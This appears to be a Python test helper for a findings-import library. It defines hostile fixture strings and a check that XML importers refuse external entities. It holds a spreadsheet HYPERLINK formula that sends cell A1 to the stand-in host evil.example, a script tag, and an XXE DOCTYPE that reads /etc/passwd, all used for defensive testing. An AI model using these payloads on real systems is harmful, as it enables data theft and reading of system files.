"""Hostile text the format fixtures carry, and the checks every importer must pass with it.

An importer keeps imported text as data, character for character: escaping is the job of
whatever prints it (HTML, terminal, spreadsheet). These strings are in the fixture files.
"""

from __future__ import annotations

import io
import re

import pytest

from openpoam.formats.base import FormatError

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
MARKUP = "Directory listing at [/admin] endpoint"
SCRIPT = "<script>alert(1)</script>"
NON_ASCII = "Contrôle d’accès — 認証 ✓"
IPV6 = "2001:db8::10"

# A DOCTYPE with an external entity: every XML importer refuses it (xmlsafe.py).
DOCTYPE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def with_doctype(xml: bytes) -> bytes:
    """The document with an entity-declaring DOCTYPE after its XML declaration."""
    declaration = re.match(rb"\s*<\?xml[^>]*\?>", xml)
    cut = declaration.end() if declaration else 0
    return xml[:cut] + DOCTYPE + xml[cut:]


def assert_refuses_entities(importer, xml: bytes, source: str = "hostile.xml") -> None:
    with pytest.raises(FormatError) as error:
        list(importer.parse(io.BytesIO(with_doctype(xml)), source=source))
    assert error.value.source == source


def texts(finding) -> str:
    """Every free text of a finding, joined, to look hazards up in."""
    return "\n".join((finding.title, finding.description, finding.solution, finding.evidence))
